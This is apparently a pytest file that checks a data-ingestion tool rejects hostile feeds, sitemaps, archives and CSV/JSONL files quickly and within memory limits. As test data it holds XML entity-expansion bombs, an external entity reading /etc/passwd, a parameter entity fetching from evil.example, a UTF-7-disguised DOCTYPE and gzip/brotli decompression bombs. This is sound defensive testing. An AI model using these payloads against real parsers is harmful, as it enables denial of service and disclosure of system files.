"""Inputs made to hurt end in a clear error or a skipped record, soon and in little memory."""

from __future__ import annotations

import gzip
import resource
import time

import brotli
import pytest
from fetch_fakes import FakeWeb, taken

from counterclaim.errors import InputError, InputTooLarge, NotText
from counterclaim.fetch.inputs import input_captures
from tests.fuzz.seeds import record, response

SECONDS = 10  # of processor time for one input, on a slow machine
KILOBYTES = 400_000

_LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
XML = {
    "billion laughs": b'<!DOCTYPE x [<!ENTITY l0 "ha">' + _LAUGHS + b"]><%s><a>&l9;</a></%s>",
    "quadratic": b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 50_000 + b'">]><%s>' + b"&a;" * 50_000 + b"</%s>",
    "external entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><%s><a>&a;</a></%s>',
    "parameter entity": b'<!DOCTYPE x [<!ENTITY %% p SYSTEM "http://evil.example/">%%p;]><%s><a>x</a></%s>',
}  # fmt: skip


@pytest.fixture
def write(tmp_path):
    """Write a file and check afterwards that taking it in cost little."""
    start, before = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    def write(name: str, data: bytes):
        (tmp_path / name).write_bytes(data)
        return tmp_path / name

    yield write
    assert time.process_time() - start < SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < KILOBYTES


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32"])
@pytest.mark.parametrize("root", [b"rss", b"feed"])
@pytest.mark.parametrize("kind", XML)
def test_no_entity_of_a_feed_expands(write, kind, root, encoding):
    data = (XML[kind] % (root, root)).decode().encode(encoding)
    captures, (error,) = taken(write("feed.xml", data))
    assert captures == []
    assert isinstance(error, NotText)
    assert "entities" in error.wrong or "neither a feed" in error.wrong


@pytest.mark.parametrize("kind", XML)
def test_no_entity_of_a_sitemap_expands(kind):
    web = FakeWeb()
    web.put("https://a.example/map.xml", XML[kind] % (b"urlset", b"urlset"), "text/xml")
    (error,) = input_captures(["https://a.example/map.xml"], client=lambda: web)
    assert type(error) is NotText


def test_an_entity_hidden_by_the_encoding_is_found(write):
    head = "<!DOCTYPE rss [<!ENTITY a 'b'>]>".replace("<!", "+ADwAIQ-").encode()
    data = b'<?xml version="1.0" encoding="utf-7"?>' + head + b"<rss><channel/></rss>"
    captures, (error,) = taken(write("feed.xml", data))
    assert captures == []
    assert isinstance(error, InputError)


@pytest.mark.parametrize(
    "body",
    [
        b"<a>" * 100_000,
        b"<item>" * 1_000_000,
        b"<a>" * 50_000 + b"</a>" * 50_000,
        b"&lt;div>" * 100_000,
        b"&" * 9_000_000,
        b"<b " + b"a=1 " * 2_000_000 + b">",
        b'<b a="' + b"x" * 9_000_000 + b'">',
        b'&lt;p style="' + b"a" * 1_000_000 + b'">',
        b"</description><author>" + b"a." * 1_000_000 + b"</author><description>",
        b"</description><pubDate>" + b"-1:" * 1_000_000 + b"</pubDate><description>",
        b"</description><link>http://a/" + b"../" * 1_000_000 + b"</link><description>",
        b"<![CDATA[" * 100_000,
        b"\0" * 1_000_000,
        b"\xff\xfe" * 1_000_000,
    ],
    ids=lambda body: repr(body[:12]),
)
@pytest.mark.parametrize("end", [b"</description></item></channel></rss>", b""])
def test_a_feed_made_to_be_slow_is_not(write, body, end):
    captures, errors = taken(write("feed.xml", b"<rss><channel><item><description>" + body + end))
    assert captures or errors


@pytest.mark.parametrize(
    "data",
    [
        b"\n" * 9_000_000 + b"<rss>",
        b"<!---->" * 1_000_000 + b"<rss>",
        b"<?xml " + b"encoding='" * 500_000 + b"?><rss>",
        b"<!DOCTYPE [" * 500_000 + b"<rss>",
        b'{"version": "https://jsonfeed.org/version/1", "items": ' + b"[" * 5_000_000,
        b'{"version": "https://jsonfeed.org/version/1", "items": [' + b"{}," * 1_000_000 + b"{}]}",
        b'{"version": ' + b" " * 9_000_000,
        b"<urlset>" + b"<url>" * 1_000_000,
        b'<urlset a="' + b"x" * 9_000_000 + b'">',
    ],
    ids=lambda data: repr(data[:12]),
)
def test_a_head_made_to_be_slow_is_not(write, data):
    captures, errors = taken(write("feed.xml", data))
    assert captures == []
    assert errors
    web = FakeWeb()
    web.put("https://a.example/", data, "text/xml")
    assert [type(item) for item in input_captures(["https://a.example/"], client=lambda: web)]


def test_bombs_are_not_unpacked(write):
    bomb = gzip.compress(bytes(100_000_000), 6)
    for coding, packed in (("gzip", bomb), ("br", brotli.compress(bytes(20_000_000), quality=1))):
        answered = response(packed, "Content-Type: text/html", f"Content-Encoding: {coding}")
        (error,) = taken(write("x.warc", record("response", answered)))[1]
        assert type(error) is InputTooLarge
    for name in ("page.html.gz", "feed.xml.gz", "x"):
        (error,) = taken(write(name, bomb))[1]
        assert type(error) is InputTooLarge


@pytest.mark.parametrize(
    "data",
    [
        b"WARC/1.0\r\n" * 500_000,
        b"WARC/1.0\r\nWARC-Type: response\r\n\r\n" * 100_000,
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 999999999\r\n\r\n" * 20_000,
        b"WARC/1.0\r\n" + b"\r\n" * 2_000_000,
        b"WARC/1.0\r\n" + b"A: b\r\n" * 1_000_000,
        gzip.compress(b"WARC/1.0\r\n") + gzip.compress(b"") * 50_000,
        gzip.compress(b"WARC/1.0\r\n") + b"\x1f\x8b\x08\0" * 200_000,
    ],
    ids=["versions", "records", "cut records", "blank lines", "fields", "empty members", "broken members"],
)
def test_an_archive_made_to_be_slow_is_not(write, data):
    captures, errors = taken(write("x.warc", data))
    assert captures == []
    assert 0 < len(errors) <= 1002


@pytest.mark.parametrize(
    ("name", "start", "end"),
    [
        ("x.csv", b'id,text\na,"', b'"\nb,ok\n'),
        ("x.jsonl", b'{"id":1,"text":"', b'"}\n{"id":"b","text":"ok"}\n'),
    ],
)
def test_a_field_of_100_megabytes_costs_its_record(write, name, start, end):
    captures, (error,) = taken(write(name, start + b"x" * 100_000_000 + end))
    assert [item.id for item in captures] == ["b"]
    assert type(error) is InputTooLarge
